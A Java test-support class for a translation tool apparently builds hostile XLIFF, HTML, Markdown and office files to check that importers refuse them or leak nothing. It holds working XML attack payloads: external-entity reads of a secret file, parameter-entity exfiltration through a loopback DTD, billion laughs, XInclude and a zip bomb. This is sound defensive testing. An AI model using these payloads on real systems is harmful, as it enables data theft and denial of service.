package org.tarjima.reliability;

import org.tarjima.support.OfficeFiles;
import org.tarjima.support.SampleDocuments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Hand-crafted hostile files: every classic XML attack (external entities over file:, http: and jar:, an external
 * DTD, parameter-entity exfiltration, billion laughs, a DOCTYPE with an internal subset), broken encodings, illegal
 * characters, absurd nesting, in XLIFF 1.2 and 2.0, in the article formats (HTML, Markdown, text) and in office
 * packages (damaged, encrypted, zip bombs, entities in parts, external relationships). A secret file
 * and a loopback server stand in for what an attacker would want to reach.
 */
final class HostileFiles {

    /** The content of the secret file; must never appear in an answer or in the database. */
    static final String SECRET = "TOP-SECRET-3d1f-never-leak";
    /** What one level of billion laughs repeats; the fully expanded text must never be produced. */
    static final String LAUGH = "lol-4a2e";

    /** A hostile file, and whether refusing it is required (false: importing is fine as long as nothing leaks). */
    record Hostile(String name, String fileName, byte[] content, boolean mustRefuse) {
        @Override
        public String toString() {
            return name;
        }
    }

    private final Path secretFile;
    private final Path secretJar;
    /** ITS stand-off markup whose text is the secret: what a filter that follows ITS references would read. */
    private final Path secretStandOff;
    private final LoopbackServer loopback;

    HostileFiles(Path directory, LoopbackServer loopback) {
        this.loopback = loopback;
        try {
            this.secretFile = Files.writeString(directory.resolve("secret.txt"), SECRET);
            this.secretJar = directory.resolve("secret.jar");
            this.secretStandOff = Files.writeString(directory.resolve("secret-its.xml"), """
                    <?xml version="1.0"?>
                    <its:locQualityIssues xmlns:its="http://www.w3.org/2005/11/its" xml:id="lqi1">
                     <its:locQualityIssue locQualityIssueType="misspelling" locQualityIssueComment="%s"/>
                    </its:locQualityIssues>
                    """.formatted(SECRET));
            try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(secretJar))) {
                zip.putNextEntry(new ZipEntry("a.txt"));
                zip.write(SECRET.getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Texts whose presence anywhere means a leak. */
    static List<String> forbiddenTexts() {
        return List.of(SECRET, LoopbackServer.REMOTE_TEXT, LoopbackServer.JAR_TEXT, LAUGH.repeat(10));
    }

    private String secretUrl() {
        return secretFile.toUri().toString();
    }

    /** The XML attacks, each in XLIFF 1.2 and 2.0; {@code targetLocale} must be a target of the receiving project. */
    List<Hostile> xliff(String targetLocale) {
        List<Hostile> files = new ArrayList<>();
        for (String version : List.of("1.2", "2.0")) {
            files.addAll(xliffAttacks(version, targetLocale));
        }
        return files;
    }

    private List<Hostile> xliffAttacks(String version, String locale) {
        String v = "xliff" + version + "-";
        List<Hostile> files = new ArrayList<>();
        files.add(refuse(v + "external-entity-file", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY secret SYSTEM \"" + secretUrl() + "\">]>", "Hello &secret; world.")));
        files.add(refuse(v + "external-entity-http", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY remote SYSTEM \"" + loopback.url("/entity.txt") + "\">]>", "Hello &remote; world.")));
        files.add(refuse(v + "external-entity-jar-http", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY j SYSTEM \"jar:" + loopback.url("/evil.jar") + "!/a.txt\">]>", "Hello &j; world.")));
        files.add(refuse(v + "external-entity-jar-file", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY j SYSTEM \"jar:" + secretJar.toUri() + "!/a.txt\">]>", "Hello &j; world.")));
        files.add(refuse(v + "external-dtd-http", xliff(version, locale,
                "<!DOCTYPE xliff SYSTEM \"" + loopback.url("/external.dtd") + "\">", "Hello &remote; world.")));
        // A DOCTYPE naming a DTD is harmless as long as nothing in the body needs it: imported, the DTD never loaded.
        files.add(defuse(v + "public-dtd-http", xliff(version, locale,
                "<!DOCTYPE xliff PUBLIC \"-//XLIFF//DTD XLIFF//EN\" \"" + loopback.url("/xliff.dtd") + "\">", "Hello world.")));
        files.add(refuse(v + "parameter-entity-exfiltration", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY % file SYSTEM \"" + secretUrl() + "\">"
                        + "<!ENTITY % dtd SYSTEM \"" + loopback.url("/evil.dtd") + "\">%dtd;%send;]>", "Hello &remote; world.")));
        files.add(refuse(v + "billion-laughs", xliff(version, locale, billionLaughs("xliff"), "Hello &lol9; world.")));
        files.add(refuse(v + "internal-subset", xliff(version, locale,
                "<!DOCTYPE xliff [<!ELEMENT xliff ANY><!ATTLIST trans-unit approved CDATA \"yes\">]>", "Hello world.")));
        byte[] plain = xliff(version, locale, "", "Hello world.");
        files.add(refuse(v + "utf16-bom-on-utf8-bytes", concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, plain)));
        files.add(refuse(v + "utf8-bom-declaring-utf16", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                new String(plain, StandardCharsets.UTF_8).replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
                        .getBytes(StandardCharsets.UTF_8))));
        files.add(refuse(v + "utf16-bytes-declaring-utf8", new String(plain, StandardCharsets.UTF_8)
                .getBytes(StandardCharsets.UTF_16LE)));
        files.add(refuse(v + "illegal-control-character", xliff(version, locale, "", "Hello \u0001 world.")));
        files.add(refuse(v + "illegal-character-reference", xliff(version, locale, "", "Hello &#x0; world &#xFFFE;.")));
        files.add(refuse(v + "nesting-10000-deep", xliff(version, locale, "", nested(version, 10_000))));
        files.add(new Hostile(v + "xinclude-of-secret", "hostile.xlf", xliff(version, locale, "",
                "Hello <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + secretUrl()
                        + "\" parse=\"text\"/> world."), false));
        files.add(new Hostile(v + "schema-location-http", "hostile.xlf", new String(plain, StandardCharsets.UTF_8)
                .replaceFirst("<xliff ", "<xliff xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
                        + (version.equals("1.2") ? "urn:oasis:names:tc:xliff:document:1.2" : "urn:oasis:names:tc:xliff:document:2.0")
                        + " " + loopback.url("/schema.xsd") + "\" ").getBytes(StandardCharsets.UTF_8), false));
        files.addAll(references(version, locale));
        files.add(new Hostile(v + "stylesheet-instruction-http", "hostile.xlf", new String(plain, StandardCharsets.UTF_8)
                .replaceFirst("\\?>", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\"" + loopback.url("/style.xsl") + "\"?>")
                .getBytes(StandardCharsets.UTF_8), false));
        return files;
    }

    /**
     * Every other way an XLIFF file can name a resource: ITS stand-off references (which Okapi's XLIFF 1.2 filter
     * follows), linked ITS rules, external skeletons and reference files, a DOCTYPE naming a DTD or declaring an
     * external entity it never uses. Importing them is fine (refusing is not required); opening any is a leak.
     */
    private List<Hostile> references(String version, String locale) {
        String v = "xliff" + version + "-";
        String its = " xmlns:its=\"http://www.w3.org/2005/11/its\" its:version=\"2.0\"";
        String http = loopback.url("/lqi.xml") + "#lqi1";
        String file = secretStandOff.toUri() + "#lqi1";
        List<Hostile> files = new ArrayList<>();
        for (String[] reference : List.of(new String[] {"its-quality-issues-ref-http", "locQualityIssuesRef", http},
                new String[] {"its-quality-issues-ref-file", "locQualityIssuesRef", file},
                new String[] {"its-provenance-ref-http", "provenanceRecordsRef", http},
                new String[] {"its-provenance-ref-file", "provenanceRecordsRef", file})) {
            String marker = version.equals("1.2")
                    ? "<mrk mtype=\"x-its\" its:" + reference[1] + "=\"" + reference[2] + "\">world</mrk>"
                    : "<mrk id=\"m1\" type=\"its:any\" its:" + reference[1] + "=\"" + reference[2] + "\">world</mrk>";
            files.add(defuse(v + reference[0], withRootAttributes(xliff(version, locale, "", "Hello " + marker + "."), its)));
        }
        files.add(defuse(v + "its-linked-rules-http", withRootAttributes(xliff(version, locale, "", "Hello world."),
                its + " xmlns:xlink=\"http://www.w3.org/1999/xlink\"", "<file ", "<its:rules version=\"2.0\""
                        + " xlink:type=\"simple\" xlink:href=\"" + loopback.url("/rules.xml") + "\"/>")));
        if (version.equals("1.2")) {
            files.add(defuse(v + "external-skeleton-http", insertAfter(xliff(version, locale, "", "Hello world."),
                    "datatype=\"plaintext\">", "<header><skl><external-file href=\"" + loopback.url("/skeleton.skl")
                            + "\"/></skl><reference><external-file href=\"" + secretFile.toUri() + "\"/></reference></header>")));
        } else {
            files.add(defuse(v + "external-skeleton-http", insertAfter(xliff(version, locale, "", "Hello world."),
                    "original=\"hostile.txt\">", "<skeleton href=\"" + loopback.url("/skeleton.skl") + "\"/>")));
        }
        files.add(defuse(v + "doctype-unused-external-entity", xliff(version, locale,
                "<!DOCTYPE xliff [<!ENTITY unused SYSTEM \"" + loopback.url("/unused.txt") + "\">]>", "Hello world.")));
        return files;
    }

    private static Hostile defuse(String name, byte[] content) {
        return new Hostile(name, "hostile.xlf", content, false);
    }

    private static byte[] withRootAttributes(byte[] xliff, String attributes) {
        return new String(xliff, StandardCharsets.UTF_8).replaceFirst("<xliff ", "<xliff" + attributes + " ")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** With attributes on the root, and {@code element} inserted before the first occurrence of {@code before}. */
    private static byte[] withRootAttributes(byte[] xliff, String attributes, String before, String element) {
        String xml = new String(withRootAttributes(xliff, attributes), StandardCharsets.UTF_8);
        int at = xml.indexOf(before);
        return (xml.substring(0, at) + element + xml.substring(at)).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] insertAfter(byte[] xliff, String after, String element) {
        String xml = new String(xliff, StandardCharsets.UTF_8);
        int at = xml.indexOf(after) + after.length();
        return (xml.substring(0, at) + element + xml.substring(at)).getBytes(StandardCharsets.UTF_8);
    }

    /** The same attacks where an article is expected: HTML, Markdown, plain text. */
    List<Hostile> articles() {
        List<Hostile> files = new ArrayList<>();
        files.add(new Hostile("html-doctype-entity-file", "hostile.html", utf8("<!DOCTYPE html [<!ENTITY secret SYSTEM \""
                + secretUrl() + "\">]>\n<html><body><p>Hello &secret; world.</p></body></html>"), true));
        files.add(new Hostile("html-billion-laughs", "hostile.html", utf8(billionLaughs("html")
                + "\n<html><body><p>Hello &lol9; world.</p></body></html>"), true));
        files.add(new Hostile("html-remote-resources", "hostile.html", utf8("<html><head><link rel=\"stylesheet\" href=\""
                + loopback.url("/style.css") + "\"><script src=\"" + loopback.url("/x.js") + "\"></script></head><body>"
                + "<p>Hello <img src=\"" + loopback.url("/img.png") + "\"> world.</p><iframe src=\"" + loopback.url("/frame")
                + "\"></iframe></body></html>"), false));
        files.add(new Hostile("html-nesting-10000-blocks", "hostile.html", utf8("<html><body>" + "<div>".repeat(10_000)
                + "<p>Deep text.</p>" + "</div>".repeat(10_000) + "</body></html>"), false));
        files.add(new Hostile("html-nesting-10000-inline", "hostile.html", utf8("<html><body><p>Deep " + "<b>".repeat(10_000)
                + "text" + "</b>".repeat(10_000) + ".</p></body></html>"), true));
        files.add(new Hostile("html-nul-characters", "hostile.html", utf8("<html><body><p>Hello \u0000 world.</p></body></html>"),
                true));
        files.add(new Hostile("html-utf16-bom-on-utf8-bytes", "hostile.html", concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                utf8("<html><body><p>Hello world.</p></body></html>")), false));
        files.add(new Hostile("markdown-html-entity-file", "hostile.md", utf8("<!DOCTYPE md [<!ENTITY secret SYSTEM \""
                + secretUrl() + "\">]>\n\n# Title\n\nHello &secret; world.\n"), true));
        files.add(new Hostile("markdown-nesting-10000-quotes", "hostile.md", utf8("> ".repeat(10_000) + "Deep text.\n"), true));
        files.add(new Hostile("markdown-nesting-10000-lists", "hostile.md", utf8(nestedList(10_000)), true));
        files.add(new Hostile("text-nul-characters", "hostile.txt", utf8("Hello \u0000 world.\n\nSecond paragraph.\n"), true));
        files.add(new Hostile("text-utf16-bom-on-utf8-bytes", "hostile.txt", concat(new byte[] {(byte) 0xFE, (byte) 0xFF},
                utf8("Hello world.\n")), true));
        files.addAll(officeDocuments());
        return files;
    }

    /**
     * Office packages: damaged, encrypted, 97–2003, a zip bomb, DOCTYPEs with entities and remote DTDs in a part,
     * external relationships and fields pointing at the loopback server, macros, a zip of something else.
     */
    List<Hostile> officeDocuments() {
        List<Hostile> files = new ArrayList<>();
        byte[] valid = SampleDocuments.pressReleaseDocx();
        files.add(new Hostile("docx-not-a-zip", "hostile.docx", utf8("Just text in a file named like a Word document."), true));
        files.add(new Hostile("docx-truncated", "hostile.docx", java.util.Arrays.copyOf(valid, valid.length / 2), true));
        files.add(new Hostile("docx-truncated-directory", "hostile.docx", java.util.Arrays.copyOf(valid, valid.length - 30), true));
        files.add(new Hostile("docx-encrypted", "hostile.docx", ole2(true), true));
        files.add(new Hostile("doc-97-2003", "hostile.doc", ole2(false), true));
        files.add(new Hostile("docx-zip-bomb", "hostile.docx", OfficeFiles.docx(SampleDocuments.body())
                .part("word/media/bomb.xml", " ".repeat(64 * 1024 * 1024)).zip(), true));
        files.add(new Hostile("docx-doctype-entity-file", "hostile.docx", wordWithProlog("<!DOCTYPE w:document [<!ENTITY secret SYSTEM \""
                + secretUrl() + "\">]>", "Hello &secret; world."), true));
        files.add(new Hostile("docx-doctype-remote-dtd", "hostile.docx", wordWithProlog("<!DOCTYPE w:document SYSTEM \""
                + loopback.url("/word.dtd") + "\">", "Hello world."), true));
        files.add(new Hostile("docx-billion-laughs", "hostile.docx", wordWithProlog(billionLaughs("w:document"),
                "Hello &lol9; world."), true));
        files.add(new Hostile("docx-rels-doctype", "hostile.docx", OfficeFiles.docx(SampleDocuments.body())
                .part("_rels/.rels", "<?xml version=\"1.0\"?><!DOCTYPE Relationships [<!ENTITY secret SYSTEM \"" + secretUrl()
                        + "\">]><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                        + "</Relationships>").zip(), true));
        files.add(new Hostile("docx-external-relationships", "hostile.docx", OfficeFiles.docx(SampleDocuments.body()
                        + OfficeFiles.paragraph(null, "<w:fldSimple w:instr=\"INCLUDETEXT &quot;" + loopback.url("/included.docx")
                        + "&quot;\"><w:r><w:t>Included text.</w:t></w:r></w:fldSimple>")
                        + OfficeFiles.paragraph(null, "<w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\">"
                        + "<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:graphicData><pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
                        + "<pic:blipFill><a:blip r:link=\"rIdRemoteImage\"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
                        + OfficeFiles.run(" A linked picture.")))
                .part("word/_rels/document.xml.rels", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                        <Relationship Id="rIdStyles" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
                        <Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="%s" TargetMode="External"/>
                        <Relationship Id="rIdRemoteImage" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="%s" TargetMode="External"/>
                        <Relationship Id="rIdTemplate" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/>
                        <Relationship Id="rIdSub" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument" Target="%s" TargetMode="External"/>
                        </Relationships>""".formatted(loopback.url("/link"), loopback.url("/image.png"), loopback.url("/template.dotm"),
                        secretUrl())).zip(), false));
        files.add(new Hostile("odt-encrypted", "hostile.odt", OfficeFiles.odt("<text:p>Hello world.</text:p>")
                .part("META-INF/manifest.xml", """
                        <?xml version="1.0" encoding="UTF-8"?>
                        <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
                         <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>
                         <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="1234">
                          <manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"><manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="x"/></manifest:encryption-data>
                         </manifest:file-entry>
                        </manifest:manifest>""").zip(), true));
        files.add(new Hostile("odt-doctype-entity", "hostile.odt", OfficeFiles.odt("<text:p>Hello &secret; world.</text:p>")
                .part("content.xml", "<?xml version=\"1.0\"?><!DOCTYPE office:document-content [<!ENTITY secret SYSTEM \""
                        + secretUrl() + "\">]><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                        + "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text>"
                        + "<text:p>Hello &secret; world.</text:p></office:text></office:body></office:document-content>").zip(), true));
        files.add(new Hostile("zip-of-text-files", "hostile.zip", new OfficeFiles().part("readme.txt", "Hello world.")
                .part("notes.txt", "More text.").zip(), true));
        return files;
    }

    /** What the refusal of each office file must say, so that a manager knows what to do about it. */
    static final java.util.Map<String, String> OFFICE_REASONS = java.util.Map.ofEntries(
            java.util.Map.entry("docx-not-a-zip", "named like an office document but is not one"),
            java.util.Map.entry("docx-truncated", "is damaged"),
            java.util.Map.entry("docx-truncated-directory", "is damaged"),
            java.util.Map.entry("docx-encrypted", "protected with a password"),
            java.util.Map.entry("doc-97-2003", "Office 97–2003"),
            java.util.Map.entry("docx-zip-bomb", "zip bomb"),
            java.util.Map.entry("docx-doctype-entity-file", "declares a DOCTYPE"),
            java.util.Map.entry("docx-doctype-remote-dtd", "declares a DOCTYPE"),
            java.util.Map.entry("docx-billion-laughs", "declares a DOCTYPE"),
            java.util.Map.entry("docx-rels-doctype", "_rels/.rels declares a DOCTYPE"),
            java.util.Map.entry("odt-encrypted", "protected with a password"),
            java.util.Map.entry("odt-doctype-entity", "content.xml declares a DOCTYPE"),
            java.util.Map.entry("zip-of-text-files", "is a zip archive, not a document"));

    private byte[] wordWithProlog(String doctype, String text) {
        return OfficeFiles.docx("").part("word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype
                + "<w:document xmlns:w=\"" + OfficeFiles.W + "\"><w:body><w:p><w:r><w:t>" + text
                + "</w:t></w:r></w:p></w:body></w:document>").zip();
    }

    /** The start of a Compound File Binary (Office 97–2003, and the envelope of an encrypted Office Open XML file). */
    private static byte[] ole2(boolean encrypted) {
        byte[] header = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        byte[] body = new byte[4096];
        byte[] stream = (encrypted ? "EncryptedPackage" : "WordDocument").getBytes(StandardCharsets.UTF_16LE);
        System.arraycopy(stream, 0, body, 1024, stream.length);
        return concat(header, body);
    }

    private static Hostile refuse(String name, byte[] content) {
        return new Hostile(name, "hostile.xlf", content, true);
    }

    static byte[] xliff(String version, String locale, String doctype, String source) {
        String xml = version.equals("1.2") ? """
                <?xml version="1.0" encoding="UTF-8"?>
                %s
                <xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
                 <file original="hostile.txt" source-language="en" target-language="%s" datatype="plaintext">
                  <body>
                   <trans-unit id="1"><source>%s</source><target>Привет.</target></trans-unit>
                  </body>
                 </file>
                </xliff>
                """ : """
                <?xml version="1.0" encoding="UTF-8"?>
                %s
                <xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="en" trgLang="%s">
                 <file id="f1" original="hostile.txt">
                  <unit id="u1"><segment><source>%s</source><target>Привет.</target></segment></unit>
                 </file>
                </xliff>
                """;
        return String.format(xml, doctype, locale, source).replace("\n\n<xliff", "\n<xliff").getBytes(StandardCharsets.UTF_8);
    }

    private static String billionLaughs(String root) {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY lol0 \"" + LAUGH + "\">");
        for (int i = 1; i <= 9; i++) {
            String previous = "&lol" + (i - 1) + ";";
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
        }
        return dtd.append("]>").toString();
    }

    private static String nested(String version, int depth) {
        StringBuilder text = new StringBuilder("Deep ");
        for (int i = 1; i <= depth; i++) {
            text.append(version.equals("1.2") ? "<g id=\"" + i + "\">" : "<pc id=\"" + i + "\">");
        }
        text.append("text");
        text.append((version.equals("1.2") ? "</g>" : "</pc>").repeat(depth));
        return text.append('.').toString();
    }

    /** A list item holding a list item holding… on one line: Markdown's cheapest deep nesting. */
    private static String nestedList(int depth) {
        return "- ".repeat(depth) + "Deep item.\n";
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }
}
